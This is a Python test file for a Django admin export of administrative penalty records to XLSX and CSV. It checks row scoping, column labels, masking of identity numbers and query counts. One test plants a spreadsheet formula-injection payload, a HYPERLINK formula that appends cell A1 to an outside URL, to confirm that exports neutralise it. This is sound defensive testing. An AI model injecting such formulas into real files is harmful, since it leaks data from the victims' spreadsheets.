"""Exported files: the list's own rows, the item's own columns, and nothing a spreadsheet would run."""

import csv
import io
from typing import Any

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse
from django.utils.translation import gettext, override

from apps.audit.context import acting
from apps.catalogue import rules as catalogue
from apps.catalogue.specs import item_spec
from apps.records.exports import common_columns
from apps.records.item_frames import TOLD, item_frames
from apps.records.models import Record
from apps.records.reading import MASK, identifiers_of, stored_value, subject_values
from apps.subjects.models import Identifier
from tests.subjects import factories as subjects

from .factories import Office, enter, item, put
from .test_pages import logged_in

EXPORT = reverse("admin:records_record_export")
XLSX, CSV = "0", "1"


def exported(client: Client, kind: str, query: str = "") -> list[list[str]]:
    answer = client.post(f"{EXPORT}?{query}", {"format": kind, "resource": "0"})
    content = b"".join(answer.streaming_content)
    assert answer["Content-Disposition"].startswith("attachment;")
    if kind == CSV:
        return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [[cell or "" for cell in row] for row in sheet.iter_rows(values_only=True)]  # type: ignore[misc]


@pytest.fixture
def clerk(market: Office) -> Client:
    return logged_in(market.clerk)


@pytest.mark.parametrize("kind", [XLSX, CSV])
def test_the_rows_of_the_list_and_no_others(clerk: Client, market: Office, tax: Office, kind: str) -> None:
    draft, submitted = enter(market), put(enter(market), "submitted")
    foreign = enter(tax)
    everything = exported(clerk, kind)
    numbers = {row[0] for row in everything[1:]}
    assert numbers == {draft.document_number, submitted.document_number}
    assert foreign.document_number not in str(everything)
    assert [row[0] for row in exported(clerk, kind, "state__exact=draft")[1:]] == [draft.document_number]
    assert [row[0] for row in exported(clerk, kind, f"q={submitted.document_number}")[1:]] == [
        submitted.document_number
    ]


@pytest.mark.parametrize("kind", [XLSX, CSV])
def test_one_items_list_has_the_columns_of_its_standard(clerk: Client, market: Office, kind: str) -> None:
    record = enter(market, fine_amount="1.5", valid_to="2099/12/31")
    rows = exported(clerk, kind, f"item__id__exact={item().pk}")
    assert rows[0] == [each.label for each in item_spec(item()).fields]
    shown = dict(zip(rows[0], rows[1], strict=True))
    assert shown["行政相对人代码_1(统一社会信用代码)"] == record.subject.uscc
    assert shown["罚款金额(万元)"] == "1.5"
    assert shown["处罚决定日期"] == "2025/09/26"
    assert shown["处罚有效期"] == "2099/12/31"
    assert shown["行政相对人类别"] == "法人及非法人组织"


@pytest.mark.parametrize("kind", [XLSX, CSV])
@pytest.mark.parametrize("query", ["", "item__id__exact={item}"])
def test_no_cell_begins_like_a_formula(clerk: Client, market: Office, kind: str, query: str) -> None:
    attack = '=HYPERLINK("https://example.org?"&A1,"点我")'
    enter(market, document_number=attack, content="+1+1", facts="@SUM(A1)", note="-2+3", document_name=attack)
    for row in exported(clerk, kind, query.format(item=item().pk))[1:]:
        assert not [cell for cell in row if cell[:1] in set("=+-@\t\r")]


@pytest.mark.parametrize("kind", [XLSX, CSV])
def test_confidential_values_are_covered(clerk: Client, market: Office, kind: str) -> None:
    number = subjects.identity_number(55)
    given: dict[str, Any] = {"legal_representative": "李四", "representative_document_kind": "身份证"}
    enter(market, **given, representative_document_number=number)
    rows = exported(clerk, kind, f"item__id__exact={item().pk}")
    assert number not in str(rows) and number[-4:] not in dict(zip(rows[0], rows[1], strict=True))["法定代表人证件号码"]


def test_the_page_names_the_columns(clerk: Client, market: Office) -> None:
    enter(market)
    assert "行政处罚决定书文号" in clerk.get(f"{EXPORT}?item__id__exact={item().pk}").text


def test_queries_do_not_grow_with_rows(clerk: Client, market: Office, django_assert_max_num_queries: Any) -> None:
    for _ in range(12):
        enter(market)
    with django_assert_max_num_queries(23):
        exported(clerk, CSV, f"item__id__exact={item().pk}")
    assert Record.objects.count() == 12


def test_a_file_says_of_each_value_what_the_page_of_one_record_says(market: Office) -> None:
    """Files are written by column; the forms for one value are the reference."""
    business = subjects.subject(77, kind="individual_business", uscc=None, name="老街面馆")
    Identifier.objects.create(subject=business, scheme="registration_number", value=subjects.registration_number(77))
    given: dict[str, Any] = {
        "legal_representative": "李四",
        "representative_document_kind": "身份证",
        "representative_document_number": subjects.identity_number(55),
    }
    enter(
        market,
        penalty_kinds=["罚款", "其他-责令改正；限期三个月"],
        fine_amount="0.000001",
        valid_to="2099/12/31",
        **given,
    )
    enter(market, facts="一行\n二行", content="1" * 200, penalty_kinds=["警告"], fine_amount="")
    put(enter(market), "published")
    with acting(reason="对象有误"):
        Record.objects.filter(state="published").update(subject=business)
    spec, records = item_spec(item()), Record.objects.select_related("subject").order_by("pk")
    codes = identifiers_of(record.subject for record in records)
    expected = [
        tuple(
            stored if stored == MASK else catalogue.to_edge(field, stored)
            for field in spec.fields
            for stored in [stored_value(record, field, subject_values(record.subject, codes[record.subject_id]))]
        )
        for record in records
    ]
    told: list[Any] = []
    frames = list(item_frames(records, spec, lambda frame: told.extend(frame.select(list(TOLD)).rows())))
    assert [tuple(cell or "" for cell in row) for frame in frames for row in frame.iter_rows()] == expected
    assert told == [(str(record.pk), record.subject.kind, str(record.item_id)) for record in records]
    assert MASK in expected[0] and "0.000001" in expected[0]


@pytest.mark.parametrize(
    "query", ["decided_on=nonsense", "item__id__exact=x", "decided_on__year=9999&decided_on__month=12"]
)
def test_filters_that_can_not_be_read_export_nothing(clerk: Client, market: Office, query: str) -> None:
    enter(market)
    changelist = reverse("admin:records_record_changelist")
    for answer in (
        clerk.get(f"{EXPORT}?{query}"),
        clerk.post(f"{EXPORT}?{query}", {"format": CSV, "resource": "0"}),
    ):
        assert (answer.status_code, answer.url) == (302, f"{changelist}?e=1")


@pytest.mark.parametrize("kind", [XLSX, CSV])
@pytest.mark.parametrize("query", ["q=不存在", "item__id__exact={item}&q=不存在"])
def test_a_list_without_rows_is_a_file_without_rows(clerk: Client, market: Office, kind: str, query: str) -> None:
    enter(market)
    assert len(exported(clerk, kind, query.format(item=item().pk))) == 1


def test_marks_stand_beside_the_record(clerk: Client, market: Office) -> None:
    plain, marked = put(enter(market), "published"), put(enter(market), "published")
    Record.objects.filter(pk=marked.pk).update(annotation="当事人有不同意见")
    marked.refresh_from_db()
    place = list(common_columns()).index(gettext("marks"))
    marks = {row[0]: row[place] for row in exported(clerk, CSV)[1:]}
    with override("zh-hans"):
        assert marks == {plain.document_number: "", marked.document_number: " ".join(marked.marks)}
    assert len(marked.marks) == 1
